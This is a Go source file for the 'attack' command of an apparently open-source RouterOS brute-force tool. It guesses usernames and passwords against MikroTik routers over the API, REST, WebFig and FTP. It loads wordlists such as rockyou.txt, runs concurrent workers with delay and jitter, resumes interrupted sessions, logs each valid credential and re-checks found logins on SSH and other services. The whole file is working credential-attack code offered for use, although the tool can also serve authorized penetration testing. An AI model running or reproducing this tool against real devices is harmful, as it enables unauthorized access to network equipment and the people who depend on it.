package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/nimda/routeros-brute/internal/config"
	"github.com/nimda/routeros-brute/internal/core"
	"github.com/nimda/routeros-brute/internal/credentials"
	"github.com/nimda/routeros-brute/internal/interfaces"
	"github.com/nimda/routeros-brute/internal/session"
	"github.com/nimda/routeros-brute/internal/validate"
	"github.com/nimda/routeros-brute/pkg/duallog"
	zlog "github.com/rs/zerolog/log"
	"github.com/spf13/cobra"
)

var attackCmd = &cobra.Command{
	Use:   "attack",
	Short: "Test credentials against a RouterOS target",
	Example: `  router-brute attack -t 192.168.88.1 -d combos.txt
  router-brute attack -t 192.168.88.1 -u users.txt -p passwords.txt --services api,rest --threads 4
  router-brute attack -t 192.168.88.1 -U admin -p rockyou.txt --ssl --stop-on-success --resume`,
	RunE: runAttack,
}

func init() {
	f := attackCmd.Flags()
	f.String("config", "", "YAML configuration file")
	f.StringP("target", "t", "", "Router IP address or hostname (optionally host:port)")
	f.IntP("api-port", "T", 8728, "Binary API port")
	f.Bool("ssl", false, "Use the binary API over TLS instead of plain TCP")
	f.Int("ssl-port", 8729, "Binary API TLS port")
	f.Int("http-port", 80, "REST API and WebFig port (443 with --https unless set)")
	f.Bool("https", false, "Use HTTPS for the REST API and WebFig")
	f.Int("ftp-port", 21, "FTP port")
	f.StringSlice("services", []string{"api"}, "Services to test (api, api-ssl, rest, webfig, ftp)")
	f.String("charset", "", "Wire charset for credentials (utf-8, cp1252, latin1)")

	f.StringP("user", "U", "", "Single username")
	f.StringP("passw", "P", "", "Single password")
	f.StringP("userlist", "u", "", "Path to user wordlist")
	f.StringP("passlist", "p", "", "Path to password wordlist")
	f.StringP("dictionary", "d", "", "Path to combo dictionary (user:pass)")

	f.IntP("seconds", "s", 5, "Delay between attempts in seconds")
	f.Duration("delay", 5*time.Second, "Delay between attempts (overrides --seconds)")
	f.Duration("jitter", 0, "Random extra delay added to every attempt")
	f.Duration("timeout", 5*time.Second, "Connection and read timeout")
	f.Int("threads", 2, fmt.Sprintf("Number of concurrent workers (max %d)", interfaces.MaxWorkers))
	f.Bool("stop-on-success", false, "Stop after the first valid credential")

	f.Bool("resume", false, "Resume a previous session for the same target and wordlist")
	f.String("sessions-dir", session.DefaultDir, "Directory for session files")
	f.Duration("stats-interval", time.Minute, "Progress report interval (0 to disable)")
	f.String("validate", "", "Re-check found credentials on another service: ssh, webfig, rest, ftp (optionally name=<port>)")
}

// loadConfig reads the config file and applies every flag the user set
func loadConfig(cmd *cobra.Command) (*config.Config, error) {
	f := cmd.Flags()
	path, _ := f.GetString("config")
	cfg, err := config.Load(path)
	if err != nil {
		return nil, err
	}

	str := func(name string, dst *string) {
		if f.Changed(name) {
			*dst, _ = f.GetString(name)
		}
	}
	integer := func(name string, dst *int) {
		if f.Changed(name) {
			*dst, _ = f.GetInt(name)
		}
	}
	boolean := func(name string, dst *bool) {
		if f.Changed(name) {
			*dst, _ = f.GetBool(name)
		}
	}
	duration := func(name string, dst *time.Duration) {
		if f.Changed(name) {
			*dst, _ = f.GetDuration(name)
		}
	}

	str("target", &cfg.Target)
	integer("api-port", &cfg.APIPort)
	boolean("ssl", &cfg.SSL)
	integer("ssl-port", &cfg.SSLPort)
	integer("http-port", &cfg.HTTPPort)
	boolean("https", &cfg.HTTPS)
	integer("ftp-port", &cfg.FTPPort)
	if f.Changed("services") {
		cfg.Services, _ = f.GetStringSlice("services")
	}
	str("charset", &cfg.Charset)

	// a list wins over a single value for the same field
	str("user", &cfg.Users)
	str("userlist", &cfg.Users)
	str("passw", &cfg.Passwords)
	str("passlist", &cfg.Passwords)
	str("dictionary", &cfg.Combo)

	if f.Changed("seconds") {
		secs, _ := f.GetInt("seconds")
		cfg.Delay = time.Duration(secs) * time.Second
	}
	duration("delay", &cfg.Delay)
	duration("jitter", &cfg.Jitter)
	duration("timeout", &cfg.Timeout)
	integer("threads", &cfg.Threads)
	boolean("stop-on-success", &cfg.StopOnSuccess)

	boolean("resume", &cfg.Resume)
	str("sessions-dir", &cfg.SessionsDir)
	duration("stats-interval", &cfg.StatsInterval)
	str("validate", &cfg.Validator)

	return cfg, cfg.Validate()
}

func runAttack(cmd *cobra.Command, args []string) error {
	cfg, err := loadConfig(cmd)
	if err != nil {
		return err
	}

	target, err := core.ParseTarget(cfg.Target)
	if err != nil {
		return err
	}

	var validator interfaces.CredentialValidator
	if cfg.Validator != "" {
		if validator, err = validate.Parse(cfg.Validator, cfg.Timeout); err != nil {
			return err
		}
	}

	combos, err := credentials.Source{
		Users:     cfg.Users,
		Passwords: cfg.Passwords,
		ComboFile: cfg.Combo,
	}.Load()
	if err != nil {
		return fmt.Errorf("failed to load credentials: %w", err)
	}
	if len(combos) == 0 {
		return errors.New("no credential combinations to test")
	}

	services := cfg.EnabledServices()
	factories, err := buildFactories(cfg, target, services)
	if err != nil {
		return err
	}

	store, err := session.NewStore(cfg.SessionsDir)
	if err != nil {
		return err
	}
	store.SetFreshness(cfg.Freshness)
	rec, err := openSession(store, cfg, target.String(), services, combos)
	if err != nil {
		return err
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	stats := core.NewStatsTracker(len(combos), rec.ResumeIndex, cfg.StatsInterval, nil)
	stats.SetOutput(duallog.Console())
	checkpoint := core.NewCheckpointer(store, rec, cfg.CheckpointInterval, cfg.CheckpointEvery)

	engine := core.NewEngine(factories, combos,
		core.WithWorkers(cfg.Threads),
		core.WithDelay(cfg.Delay),
		core.WithJitter(cfg.Jitter),
		core.WithStopOnSuccess(cfg.StopOnSuccess),
		core.WithResilience(cfg.NewWrapper),
		core.WithStartIndex(rec.ResumeIndex),
		core.WithPriorSuccesses(core.PriorSuccesses(rec)),
		core.WithMetrics(stats),
		core.WithEventHandler(func(ev core.Event) {
			checkpoint.Observe(ev)
			reportEvent(ev, len(combos))
		}),
	)
	stats.SetProgressFunc(engine.Tested)

	zlog.Info().
		Str("target", target.String()).
		Strs("services", services).
		Int("combinations", len(combos)).
		Int("threads", cfg.Threads).
		Str("session", rec.SessionID).
		Msg("Starting attack")

	checkpoint.Start(ctx)
	stats.Start(ctx)
	summary, runErr := engine.Run(ctx)
	stats.Stop()
	checkpoint.Stop()
	if runErr != nil {
		return runErr
	}
	zlog.Debug().Fields(engine.Stats()).Msg("Engine statistics")

	if validator != nil && len(summary.Successes) > 0 {
		validateSuccesses(validator, target.Host, summary.Successes, checkpoint)
	}

	if summary.Interrupted {
		duallog.Warn().
			Str("session", rec.SessionID).
			Msg("Interrupted; rerun with --resume to continue")
	} else if err := checkpoint.Complete(); err != nil {
		zlog.Error().Err(err).Msg("Failed to mark session completed")
	}

	printSummary(duallog.Console(), target.String(), summary)
	return nil
}

func buildFactories(cfg *config.Config, target core.Target, services []string) ([]interfaces.ClientFactory, error) {
	infos, err := interfaces.DefaultRegistry.Resolve(services)
	if err != nil {
		return nil, err
	}
	if target.Port != 0 && len(infos) > 1 {
		zlog.Warn().Int("port", target.Port).Msg("Explicit target port applies to every service")
	}

	factories := make([]interfaces.ClientFactory, 0, len(infos))
	for _, info := range infos {
		cc := cfg.ClientConfig(info.Name, target.Host, target.Port)
		if cc.Port == 0 {
			cc.Port = info.DefaultPort
		}
		if err := cc.Validate(); err != nil {
			return nil, err
		}
		factories = append(factories, info.NewFactory(cc))
		zlog.Debug().Str("service", info.Name).Int("port", cc.Port).Msg("Service enabled")
	}
	return factories, nil
}

// openSession resumes a matching unfinished session or starts a new one
func openSession(store *session.Store, cfg *config.Config, target string, services []string, combos []credentials.Credential) (*session.Record, error) {
	if cfg.Resume {
		rec, err := store.FindExisting(target, services, combos)
		switch {
		case err == nil && store.ShouldResume(rec):
			zlog.Info().
				Str("session", rec.SessionID).
				Int("tested", rec.TestedCombinations).
				Int("resume_index", rec.ResumeIndex).
				Float64("progress", rec.CurrentProgress).
				Msg("Resuming session")
			rec.Status = session.StatusRunning
			return rec, nil
		case err == nil:
			zlog.Info().Str("session", rec.SessionID).Msg("Session finished or stale, starting over")
		case errors.Is(err, session.ErrNotFound):
			zlog.Info().Msg("No session to resume, starting a new one")
		default:
			return nil, err
		}
	}
	return store.Create(target, services, combos, cfg.Summary())
}

func reportEvent(ev core.Event, total int) {
	if ev.Outcome == interfaces.OutcomeSuccess {
		duallog.Success().
			Str("username", ev.Credential.Username).
			Str("password", ev.Credential.Password).
			Strs("services", ev.Services).
			Msg("SUCCESS")
		return
	}
	if ev.Watermark > 0 && ev.Watermark%25 == 0 {
		duallog.Progress().
			Int("tested", ev.Watermark).
			Int("total", total).
			Msg("Progress")
	}
}

func validateSuccesses(v interfaces.CredentialValidator, host string, successes []core.Success, checkpoint *core.Checkpointer) {
	for _, s := range successes {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		ok, err := v.Validate(ctx, host, s.Credential.Username, s.Credential.Password)
		cancel()

		var result string
		switch {
		case err != nil:
			result = fmt.Sprintf("%s: error: %v", v.Name(), err)
			zlog.Warn().Err(err).Str("validator", v.Name()).Str("username", s.Credential.Username).Msg("Validation failed")
		case ok:
			result = v.Name() + ": valid"
			duallog.Success().Str("validator", v.Name()).Str("username", s.Credential.Username).Msg("Credential validated")
		default:
			result = v.Name() + ": rejected"
			zlog.Info().Str("validator", v.Name()).Str("username", s.Credential.Username).Msg("Credential rejected by validator")
		}
		checkpoint.AttachValidation(s.Credential.Username, s.Credential.Password, result)
	}
	if err := checkpoint.SaveNow(); err != nil {
		zlog.Error().Err(err).Msg("Failed to save validation results")
	}
}
